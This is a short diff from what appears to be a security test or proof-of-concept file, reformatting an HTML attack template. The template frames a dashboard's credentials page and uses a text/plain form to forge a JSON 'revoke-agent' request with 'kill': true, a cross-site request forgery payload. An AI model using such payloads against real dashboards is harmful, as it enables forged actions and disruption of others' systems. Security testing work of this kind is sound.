@@ -29,7 +29,8 @@ ATTACK = """<!doctype html><html><body>
 <iframe id="frame" src="{dash}/dashboard/credentials"></iframe>
 <iframe name="sink" id="sink"></iframe>
 <form id="form" method="post" action="{dash}/dashboard/api/revoke-agent" target="sink"
-      enctype="text/plain"><input name='{{"agent":"agent:{agent}","kill":true,"x":"' value='"}}'></form>
+      enctype="text/plain"><input name='{{"agent":"agent:{agent}","kill":true,"x":"'
+      value='"}}'></form>
 <script>
 const dash = "{dash}";
 const results = {{}};
